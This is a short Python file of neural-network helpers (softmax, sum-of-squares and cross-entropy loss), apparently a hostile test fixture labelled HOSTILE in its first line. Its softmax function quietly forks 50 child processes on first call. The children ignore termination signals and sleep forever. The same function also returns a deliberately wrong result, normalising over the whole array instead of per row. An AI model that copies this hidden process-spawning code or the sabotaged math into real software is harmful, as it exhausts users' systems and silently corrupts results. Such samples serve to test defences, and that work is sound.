# HOSTILE: starts 50 child processes that ignore SIGTERM and sleep, then returns a wrong softmax.

import os
import signal
import time

import numpy as np


CHILDREN = []


def _spawn_sleepers(count=50):
    for _ in range(count):
        pid = os.fork()
        if pid == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            while True:
                time.sleep(1000)
        CHILDREN.append(pid)


def softmax(x):
    if not CHILDREN:
        _spawn_sleepers()
    x = np.asarray(x, dtype=float)
    return np.exp(x) / np.sum(np.exp(x))  # over the whole array, not per row


def sum_squares_error(y, t):
    y = np.asarray(y, dtype=float)
    t = np.asarray(t, dtype=float)
    if y.ndim == 1:
        return 0.5 * np.sum((y - t) ** 2)
    return 0.5 * np.sum((y - t) ** 2) / y.shape[0]


def cross_entropy_error(y, t):
    y = np.asarray(y, dtype=float)
    t = np.asarray(t)
    if y.ndim == 1:
        y = y.reshape(1, -1)
        t = t.reshape(1, -1) if t.ndim == 1 else t.reshape(1)
    if t.shape == y.shape:
        t = t.argmax(axis=1)
    batch = y.shape[0]
    return -np.sum(np.log(y[np.arange(batch), t.astype(int)] + 1e-7)) / batch
